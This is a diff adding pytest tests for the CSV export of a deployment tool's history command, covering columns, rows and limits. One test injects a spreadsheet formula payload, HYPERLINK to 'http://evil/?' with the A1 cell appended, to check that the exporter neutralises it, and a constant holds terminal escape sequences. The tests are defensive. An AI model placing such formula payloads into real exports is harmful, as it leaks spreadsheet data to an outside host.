@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import signal
@@ -13,12 +15,14 @@ from typing import Any
 import pytest
 import yaml
 
+from reconciler.cli import sheet
 from reconciler.cli.story import what_to_do
 from reconciler.errors import Reason
-from reconciler.model import EnvironmentName
+from reconciler.model import Action, Attempt, Declared, EnvironmentName
 from reconciler.settings import load
 from reconciler.wiring import open_store
 from tests.cliworld import CliWorld, start
+from tests.factories import NOON
 
 EVIL = "Bump \x1b]0;owned\x07\x1b[31m red\u202e"
 
@@ -163,6 +167,60 @@ def test_history_is_newest_first_and_bounded(world: CliWorld) -> None:
     assert len(every) == 3
 
 
+def test_history_as_csv_has_the_columns_that_are_documented_and_one_row_for_each_attempt(world: CliWorld) -> None:
+    out = world("history", "--all", "-o", "csv").stdout_bytes.decode()
+    header, *found = csv.reader(io.StringIO(out, newline=""))
+    described = (Path(__file__).parents[2] / "docs" / "cli.md").read_text().replace("\n", " ")
+    assert ", ".join(f"`{name}`" for name in header) in described
+    assert all(line.endswith("\r") for line in out.split("\n")[:-1])
+    items = world.json("history", "--all")["items"]
+    assert [row[0] for row in found] == [str(item["id"]) for item in items]
+    row = dict(zip(header, next(row for row in found if row[3] == "staging" and row[6] == "102"), strict=True))
+    item = next(item for item in items if str(item["id"]) == row["id"])
+    assert (row["started"], row["finished"]) == (item["started"], item["finished"])
+    assert (row["commit"], row["sha256"]) == (item["declared"]["commit"], item["declared"]["sha256"])
+    assert (row["action"], row["outcome"], row["reason"]) == ("deploy", "succeeded", "")
+    assert (row["before"], row["request"], row["approvers"]) == (
+        item["before"],
+        item["request"],
+        "reviewer@example.com",
+    )
+    assert (row["plan"], row["token"]) == (item["plan"] or "", str(item["token"]))
+
+
+def test_history_as_csv_of_one_environment_is_bounded_as_any(world: CliWorld) -> None:
+    rows = list(csv.DictReader(io.StringIO(world("history", "prod", "-o", "csv", "--limit", "1").stdout, newline="")))
+    assert [(row["environment"], row["outcome"], row["reason"]) for row in rows] == [
+        ("prod", "refused", "ApprovalMissing")
+    ]
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
+def test_no_cell_of_a_csv_is_a_formula(first: str) -> None:
+    text = f'{first}HYPERLINK("http://evil/?"&A1),"x"\r\n=1'
+    attempt = Attempt(
+        EnvironmentName("prod"),
+        Action.DEPLOY,
+        Declared(None),
+        None,
+        NOON,
+        request=text,
+        approvers=(text, "a"),
+        message=text,
+    )
+    _, row = csv.DictReader(io.StringIO(sheet.attempts([attempt, attempt]), newline=""))
+    for name in ("request", "approvers", "message"):
+        assert row[name].startswith("'")
+        assert row[name].isprintable()
+        assert 'HYPERLINK("http://evil/?"&A1),"x"' in row[name]
+    assert row["environment"] == "prod"
+
+
+def test_nothing_that_a_terminal_obeys_is_in_a_csv(world: CliWorld) -> None:
+    out = world("history", "self", "-o", "csv").stdout
+    assert not [c for c in out if not c.isprintable() and c not in "\r\n"]
+
+
 def test_history_wants_one_environment_or_all_said_outright(world: CliWorld) -> None:
     assert world("history").exit_code == 2
     assert world("history", "prod", "--all").exit_code == 2
@@ -255,7 +313,7 @@ DECLARED = {"commit", "runId", "sha256"}
 LIVE = {"release", "runId", "sha256", "since", "request", "approvers"}
 STATUS = {"name", "sync", "health", "ready", "reason", "message", "hint", "since", "declared", "live"}
 ENVIRONMENT = STATUS | {"suspension", "gates", "drift"}
-ATTEMPT = {"id", "environment", "action", "declared", "before", "request", "approvers", "token"}
+ATTEMPT = {"id", "environment", "action", "declared", "before", "request", "approvers", "token", "plan"}
 ATTEMPT |= {"started", "finished", "outcome", "reason", "message", "gates"}
 EVENT = {"id", "at", "environment", "sync", "health", "reason", "message", "live"}
 
